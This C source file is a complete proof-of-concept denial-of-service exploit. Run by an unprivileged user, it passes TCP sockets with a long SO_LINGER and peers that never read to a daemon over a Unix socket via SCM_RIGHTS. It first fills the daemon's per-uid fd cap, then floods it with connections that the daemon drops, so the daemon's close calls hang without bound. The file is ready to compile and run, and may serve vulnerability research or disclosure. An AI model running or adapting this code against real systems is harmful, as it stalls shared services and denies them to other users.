/* SPDX-License-Identifier: MIT */
/*
 * Run as an unprivileged uid with NO rule. Makes closes of the daemon's
 * closer hang (TCP sockets with SO_LINGER whose peer never reads), first
 * through fds in messages (counted, capped at 256 per uid), then through
 * the sockets of connections the daemon drops unread because this uid is
 * over that cap: each of those adds one more stuck close, without bound.
 * Usage: linger SOCKET N
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
#include <sys/wait.h>

static struct sockaddr_in la[4];
static int n_listeners, next_l;

static int
listener(void)
{
	int l = socket(AF_INET, SOCK_STREAM, 0), small = 2048;
	socklen_t len = sizeof(la[0]);

	setsockopt(l, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	la[n_listeners].sin_family = AF_INET;
	la[n_listeners].sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (bind(l, (void *)&la[n_listeners], sizeof(la[0])) < 0 || listen(l, 4096) < 0) {
		perror("listen");
		exit(1);
	}
	getsockname(l, (void *)&la[n_listeners], &len);
	n_listeners++;
	return l;
}

/* A connected TCP socket with unsent data, a peer that never reads, and a long linger. */
static int
lingering(void)
{
	int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), small = 4096;
	struct linger lg = {.l_onoff = 1, .l_linger = 3600};
	struct pollfd p = {.fd = s, .events = POLLOUT};
	char buf[65536] = {0};

	setsockopt(s, SOL_SOCKET, SO_SNDBUF, &small, sizeof(small));
	connect(s, (void *)&la[next_l], sizeof(la[0]));
	next_l = (next_l + 1) % n_listeners;
	poll(&p, 1, 2000);
	for (int i = 0; i < 200; i++) {
		ssize_t n = write(s, buf, sizeof(buf));

		if (n < 0 && errno == EAGAIN) {
			poll(&p, 1, 20);
			if (!(p.revents & POLLOUT) && i > 2)
				break;
		} else if (n < 0) {
			perror("write");
			break;
		}
	}
	setsockopt(s, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg));
	return s;
}

static int
dial(const char *path)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int s = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);

	strncpy(a.sun_path, path, sizeof(a.sun_path) - 1);
	if (connect(s, (void *)&a, sizeof(a)) < 0) {
		perror("connect spawnd");
		exit(1);
	}
	return s;
}

static void send_raw(int s, const int *fds, int n);

int
main(int argc, char **argv)
{
	const char *path = argv[1];
	int n = argc > 2 ? atoi(argv[2]) : 100;
	struct rlimit rl;

	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	for (int i = 0; i < 3; i++)
		listener();
	/*
	 * Each batch in a child of its own: the lingering sockets are made
	 * first, then the connection, the datagram and at once the close of
	 * our copies, so that the daemon's drop is (nearly always) the last
	 * reference. When the daemon wins that race our close() waits out the
	 * linger instead: only that disposable child waits, nobody reaps it.
	 * Phase 1: 4 x 64 fds, read by the daemon and counted against this
	 * uid (its cap: 256). Phase 2: one fd per connection, which the daemon
	 * drops unread because this uid is over its cap; the connection's
	 * socket goes to the closer, and its close hangs as well.
	 */
	for (int i = 0; i < 4 + n; i++) {
		int k = i < 4 ? 64 : 1;

		if (fork() == 0) {
			int fds[64], s;

			for (int j = 0; j < k; j++)
				fds[j] = lingering();
			s = dial(path);
			send_raw(s, fds, k);
			for (int j = 0; j < k; j++)
				close(fds[j]);
			close(s);
			_exit(0);
		}
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
		usleep(i < 4 ? 300000 : 2000);
		if (i % 500 == 0)
			fprintf(stderr, "batch %d\n", i);
	}
	fprintf(stderr, "done; holding the peers\n");
	for (;;) {
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
		sleep(1);
	}
}

static void
send_raw(int s, const int *fds, int n)
{
	char cbuf[CMSG_SPACE(sizeof(int) * 64)];
	struct iovec iov = {.iov_base = "x", .iov_len = 1};
	struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf,
			    .msg_controllen = CMSG_SPACE(sizeof(int) * n)};
	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int) * n);
	memcpy(CMSG_DATA(c), fds, sizeof(int) * n);
	if (sendmsg(s, &mh, MSG_NOSIGNAL) < 0)
		perror("sendmsg");
}
